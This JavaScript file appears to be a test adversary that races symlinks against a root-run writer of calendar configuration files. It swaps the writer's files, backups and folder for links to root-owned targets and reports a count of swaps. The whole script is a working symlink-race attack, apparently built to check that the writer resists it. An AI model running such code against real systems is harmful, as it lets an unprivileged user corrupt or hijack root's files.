// The owner of a folder, who puts links in the way of whoever writes there as root. It runs as that user, as fast as it can.
// Words: the class of attack, the folder, and the folder of root's that the links lead to. It prints how often it swapped.
import { readdirSync, renameSync, symlinkSync, unlinkSync } from 'node:fs';
import { basename, join } from 'node:path';

const [kind, folder, victims] = process.argv.slice(2);
const own = /^\.(ics\.conf|calendar\.ics)\.reconcile-(new|lock)/;
let swaps = 0;

function attempt(action) {
  try {
    action();
    return true;
  } catch {
    return false;
  }
}

function spin(times) {
  for (let i = 0; i < times; i += 1) attempt(() => readdirSync(join(folder, '..')));
}

/** Puts a link in the place of something, holds it for a moment, and puts it back. */
function swap(path, to) {
  const aside = `${path}.aside`;
  if (!attempt(() => renameSync(path, aside))) return;
  if (attempt(() => symlinkSync(to, path))) swaps += 1;
  spin(Math.floor(Math.random() * 40));
  // What was put there through us stays; what stands at its place by now is not ours.
  attempt(() => unlinkSync(path));
  attempt(() => renameSync(aside, path));
}

/** A link to a file of root's, or to a folder of root's. */
function lure(name) {
  return Math.random() < 0.5 ? join(victims, name) : victims;
}

function names() {
  let found = [];
  attempt(() => {
    found = readdirSync(folder);
  });
  return found.filter(name => !name.endsWith('.aside'));
}

function backups() {
  return names().filter(name => name.startsWith('ics.conf.reconcile-'));
}

/** Rests of any length, so that every step of a writer is met, also the last ones: who is disturbed at once gives up. */
function strike() {
  spin(Math.floor(Math.random() ** 3 * 1400));
  if (kind === 'folder') return swap(folder, victims);
  if (kind === 'planted') {
    const path = join(folder, 'calendar.ics');
    if (attempt(() => symlinkSync(lure('folder/ics.conf'), path))) swaps += 1;
    spin(Math.floor(Math.random() * 40));
    attempt(() => unlinkSync(path));
  }
  if (kind === 'target') {
    // The moment of the backup is the one before the last step.
    for (let i = 0; i < 400 && backups().length === 0; i += 1);
    const [backup = 'ics.conf'] = backups();
    return swap(join(folder, Math.random() < 0.8 ? 'ics.conf' : backup), lure('ics.conf'));
  }
  for (const name of names().filter(name => own.test(name))) {
    swap(join(folder, basename(name)), lure('holder'));
  }
}

process.on('SIGTERM', () => {
  process.stdout.write(String(swaps), () => process.exit(0));
});
function round() {
  for (let i = 0; i < 5; i += 1) strike();
  setImmediate(round);
}
round();
